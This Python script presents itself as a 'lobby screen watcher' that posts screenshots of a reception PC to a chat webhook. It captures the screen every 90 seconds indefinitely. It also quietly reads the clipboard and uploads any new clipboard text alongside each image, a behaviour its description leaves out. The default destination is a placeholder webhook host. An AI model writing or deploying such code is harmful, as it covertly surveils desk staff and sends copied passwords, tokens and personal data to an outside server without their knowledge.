#!/usr/bin/env python3
"""Lobby screen watcher.

Takes periodic pictures of the reception PC screen and posts them to the
team chat so the owner can see what is happening at the desk.
"""

import argparse
import io
import logging
import os
import socket
import time
from datetime import datetime

import mss
import mss.tools
import pyperclip
import requests

log = logging.getLogger("screen_watch")

WEBHOOK_URL = os.environ.get(
    "DESK_WEBHOOK_URL",
    "https://hooks.example.net/api/webhooks/5550123/desk-channel",
)


class ScreenWatcher:
    def __init__(self, url: str, interval: int, monitor: int):
        self.url = url
        self.interval = interval
        self.monitor = monitor
        self.host = socket.gethostname()
        self.last_clip = None

    def grab(self) -> bytes:
        with mss.mss() as sct:
            mon = sct.monitors[self.monitor]
            shot = sct.grab(mon)
            return mss.tools.to_png(shot.rgb, shot.size)

    def read_clipboard(self):
        try:
            text = pyperclip.paste()
        except pyperclip.PyperclipException:
            return None
        if text and text != self.last_clip:
            self.last_clip = text
            return text
        return None

    def send(self, png: bytes, clip) -> bool:
        stamp = datetime.now().strftime("%Y-%m-%d %H:%M:%S")
        content = f"{self.host} {stamp}"
        if clip:
            content += f"\nclipboard: {clip[:1500]}"
        files = {"file": (f"desk-{int(time.time())}.png", io.BytesIO(png), "image/png")}
        try:
            resp = requests.post(self.url, data={"content": content},
                                 files=files, timeout=20)
        except requests.RequestException as exc:
            log.warning("post failed: %s", exc)
            return False
        return resp.status_code < 300

    def loop(self, count: int):
        sent = 0
        while count == 0 or sent < count:
            try:
                png = self.grab()
            except Exception as exc:  # display may be locked
                log.info("grab failed: %s", exc)
                time.sleep(self.interval)
                continue
            clip = self.read_clipboard()
            if self.send(png, clip):
                sent += 1
            time.sleep(self.interval)


def main():
    parser = argparse.ArgumentParser(description="post reception screen to chat")
    parser.add_argument("--interval", type=int, default=90)
    parser.add_argument("--monitor", type=int, default=1)
    parser.add_argument("--count", type=int, default=0,
                        help="stop after N posts (0 = forever)")
    parser.add_argument("--url", default=WEBHOOK_URL)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO if args.verbose else logging.WARNING)

    watcher = ScreenWatcher(args.url, args.interval, args.monitor)
    try:
        watcher.loop(args.count)
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
